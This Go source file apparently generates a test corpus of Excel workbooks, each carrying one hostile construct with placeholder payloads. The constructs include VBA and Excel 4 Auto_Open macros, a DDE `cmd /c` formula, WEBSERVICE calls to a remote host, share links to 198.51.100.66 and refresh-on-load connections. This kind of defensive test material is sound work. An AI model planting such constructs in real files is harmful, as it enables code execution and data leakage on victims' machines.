package hostile

const (
	ctExcel  = "application/vnd.openxmlformats-officedocument.spreadsheetml."
	bookPart = "xl/workbook.xml"
	sheet1   = "xl/worksheets/sheet1.xml"
)

// book is a workbook that is being made.
type book struct {
	*ooxml
	names, more, cells, after string
}

// workbook has one sheet with one cell that stays, and what is given beside it.
func workbook(cells string) *book {
	b := &book{ooxml: &ooxml{map[string]string{}, map[string]string{}, map[string][]rel{}}, cells: cells}
	b.relate("", "rId1", "officeDocument", bookPart, false).relate(bookPart, "rId1", "worksheet", "worksheets/sheet1.xml", false)
	b.types[bookPart], b.types[sheet1] = ctExcel+"sheet.main+xml", ctExcel+"worksheet+xml"
	return b
}

func (b *book) vba() *book {
	b.types[bookPart] = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	b.add("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", ole).relate(bookPart, "rIdV", msRel+"vbaProject", "vbaProject.bin", false)
	return b
}

func (b *book) bytes() []byte {
	b.parts[bookPart] = `<workbook xmlns="` + nsSheet + `" xmlns:r="` + nsOffice + `"><sheets><sheet name="表" sheetId="1" r:id="rId1"/>` + b.more + `</sheets>` + b.names + `</workbook>`
	b.parts[sheet1] = `<worksheet xmlns="` + nsSheet + `" xmlns:r="` + nsOffice + `"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>` + Kept + `</t></is></c>` + b.cells + `</row></sheetData>` + b.after + `</worksheet>`
	return b.ooxml.bytes()
}

func formula(f string) string { return `<c r="B1"><f>` + f + `</f><v>1</v></c>` }

func excel() []File {
	var out []File
	add := func(technique, ext string, b *book) {
		out = append(out, File{Name: "表" + ext, Technique: technique, Nesting: "bare", Body: b.bytes()})
	}
	add("VBA macros", ".xlsm", workbook("").vba())
	add("VBA macros", ".xltm", func() *book {
		b := workbook("").vba()
		b.types[bookPart] = "application/vnd.ms-excel.template.macroEnabled.main+xml"
		return b
	}())
	macroSheet := workbook("").vba()
	macroSheet.more = `<sheet name="M" sheetId="2" state="veryHidden" r:id="rId2"/>`
	macroSheet.names = `<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>`
	macroSheet.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", `<xm:macrosheet xmlns="`+nsSheet+`" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("`+Marker+`")</f></c></row></sheetData></xm:macrosheet>`).
		relate(bookPart, "rId2", msRel+"xlMacrosheet", "macrosheets/sheet1.xml", false)
	add("Excel 4 macro sheet with Auto_Open", ".xlsm", macroSheet)
	dialog := workbook("")
	dialog.more = `<sheet name="D" sheetId="2" r:id="rId2"/>`
	dialog.add("xl/dialogsheets/sheet1.xml", ctExcel+"dialogsheet+xml", `<dialogsheet xmlns="`+nsSheet+`"><sheetPr codeName="`+Marker+`"/></dialogsheet>`).relate(bookPart, "rId2", "dialogsheet", "dialogsheets/sheet1.xml", false)
	add("dialog sheet", ".xlsx", dialog)
	for name, f := range map[string]string{
		"DDE formula": `cmd|'/c ` + Marker + `'!A1`, "WEBSERVICE": `WEBSERVICE("` + remote + `")`, "IMAGE": `_xlfn.IMAGE("` + remote + `")`, "RTD": `RTD("` + Marker + `",,"a")`, "CALL": `CALL("urlmon","` + Marker + `","JJ",0)`,
		"REGISTER.ID": `REGISTER.ID("k","` + Marker + `")`, "HYPERLINK to a share": `HYPERLINK("\\198.51.100.66\` + Marker + `","x")`, "external book": `'[` + Marker + `.xlsx]S'!A1`, "external book on a share": `'\\198.51.100.66\[` + Marker + `.xlsx]S'!A1`,
		"WEBSERVICE handed to MAP": `_xlfn.MAP("` + remote + `",_xleta.WEBSERVICE)`, "function of a program": `_xll.` + Marker[:7] + `("` + Marker + `")`,
		"WEBSERVICE in pieces": `1+ webservice ("` + remote + `"&amp;A1)`, "SQL.REQUEST": `SQL.REQUEST("` + Marker + `")`, "EXEC": `EXEC("` + Marker + `")`, "HYPERLINK with javascript": `HYPERLINK("javascript:` + Marker + `","x")`,
	} {
		out = append(out, File{Name: "表.xlsx", Technique: "formula " + name, Nesting: "bare", Body: workbook(formula(f)).bytes()})
	}
	shared := workbook(`<c r="B1"><f t="shared" ref="B1:B2" si="0">WEBSERVICE("` + remote + `")</f><v>1</v></c>`)
	add("formula shared", ".xlsx", shared)
	array := workbook(`<c r="B1"><f t="array" ref="B1">WEBSERVICE("` + remote + `")</f><v>1</v></c>`)
	add("formula of an array", ".xlsx", array)
	inRule := func(xml string) *book {
		b := workbook("")
		b.after = xml
		return b
	}
	add("formula of a condition", ".xlsx", inRule(`<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("`+remote+`")</formula></cfRule></conditionalFormatting>`))
	add("formula of a validation", ".xlsx", inRule(`<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("`+remote+`")</formula1></dataValidation></dataValidations>`))
	named := workbook("")
	named.names = `<definedNames><definedName name="x">WEBSERVICE("` + remote + `")</definedName></definedNames>`
	add("formula of a name", ".xlsx", named)
	function := workbook("")
	function.names = `<definedNames><definedName name="` + "M_" + Marker[:7] + `" function="1" vbProcedure="1">` + Marker + `</definedName></definedNames>`
	add("name of a macro", ".xlsx", function)
	link := workbook(formula("[1]S!A1"))
	link.names = `<externalReferences><externalReference r:id="rId3"/></externalReferences>`
	link.add("xl/externalLinks/externalLink1.xml", ctExcel+"externalLink+xml", `<externalLink xmlns="`+nsSheet+`" xmlns:r="`+nsOffice+`"><externalBook r:id="rId1"/></externalLink>`).
		relate(bookPart, "rId3", "externalLink", "externalLinks/externalLink1.xml", false).relate("xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", remote, true)
	add("link to another book", ".xlsx", link)
	dde := workbook("")
	dde.names = `<externalReferences><externalReference r:id="rId3"/></externalReferences>`
	dde.add("xl/externalLinks/externalLink1.xml", ctExcel+"externalLink+xml", `<externalLink xmlns="`+nsSheet+`"><ddeLink ddeService="cmd" ddeTopic="/c `+Marker+`"><ddeItems><ddeItem name="a"/></ddeItems></ddeLink></externalLink>`).relate(bookPart, "rId3", "externalLink", "externalLinks/externalLink1.xml", false)
	add("DDE link", ".xlsx", dde)
	connection := workbook("")
	connection.add("xl/connections.xml", ctExcel+"connections+xml", `<connections xmlns="`+nsSheet+`"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="`+remote+`"/></connection></connections>`).relate(bookPart, "rId4", "connections", "connections.xml", false)
	add("connection", ".xlsx", connection)
	query := workbook("")
	query.add("xl/queryTables/queryTable1.xml", ctExcel+"queryTable+xml", `<queryTable xmlns="`+nsSheet+`" name="`+Marker+`" connectionId="1"/>`).relate(sheet1, "rId1", "queryTable", "../queryTables/queryTable1.xml", false)
	add("query table", ".xlsx", query)
	add("OLE object", ".xlsx", func() *book {
		b := inRule(`<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects>`)
		b.add("xl/embeddings/o.bin", "application/vnd.openxmlformats-officedocument.oleObject", ole).relate(sheet1, "rId1", "oleObject", "../embeddings/o.bin", false)
		return b
	}())
	add("linked OLE object", ".xlsx", inRule(`<oleObjects><oleObject progId="Package" link="[1]!'!'" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025" dvAspect="`+Marker+`"/></oleObjects>`))
	add("control", ".xlsx", func() *book {
		b := inRule(`<controls><control shapeId="1025" r:id="rId1" name="c"/></controls>`)
		b.add("xl/activeX/a.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{`+Marker+`}"/>`).relate(sheet1, "rId1", "control", "../activeX/a.xml", false)
		return b
	}())
	add("button of a macro", ".xlsx", func() *book {
		b := inRule(`<legacyDrawing r:id="rId1"/>`)
		b.add("xl/drawings/v.vml", "", `<xml xmlns:v="`+nsVML+`" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>`+Marker+`</x:FmlaMacro></x:ClientData></v:shape></xml>`).relate(sheet1, "rId1", "vmlDrawing", "../drawings/v.vml", false)
		return b
	}())
	add("shape of a macro", ".xlsx", func() *book {
		b := inRule(`<drawing r:id="rId1"/>`)
		b.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:sp macro="[0]!`+Marker+`"><xdr:nvSpPr><xdr:cNvPr id="1" name="s"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>`).
			relate(sheet1, "rId1", "drawing", "../drawings/drawing1.xml", false)
		return b
	}())
	add("link to a file", ".xlsx", func() *book {
		b := inRule(`<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>`)
		b.relate(sheet1, "rId1", "hyperlink", "file:///c:/"+Marker, true)
		return b
	}())
	for name, p := range map[string][3]string{
		"map of XML":            {"xmlMaps", "application/xml", `<MapInfo xmlns="` + nsSheet + `" SelectionNamespaces="` + Marker + `"/>`},
		"names of users":        {"usernames", ctExcel + "userNames+xml", `<users xmlns="` + nsSheet + `" count="0" x="` + Marker + `"/>`},
		"history":               {"revisionHeaders", ctExcel + "revisionHeaders+xml", `<headers xmlns="` + nsSheet + `" guid="{` + Marker + `}"/>`},
		"volatile dependencies": {"volatileDependencies", ctExcel + "volatileDependencies+xml", `<volTypes xmlns="` + nsSheet + `"><volType type="realTimeData"><main first="` + Marker + `"/></volType></volTypes>`},
		"data model":            {"http://schemas.microsoft.com/office/2011/relationships/powerPivotData", "application/vnd.openxmlformats-officedocument.model+data", Marker},
		"printer settings":      {"printerSettings", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings", Marker},
	} {
		b := workbook("")
		b.add("xl/p.xml", p[1], p[2]).relate(bookPart, "rId5", p[0], "p.xml", false)
		out = append(out, File{Name: "表.xlsx", Technique: name, Nesting: "bare", Body: b.bytes()})
	}
	return sorted(out)
}
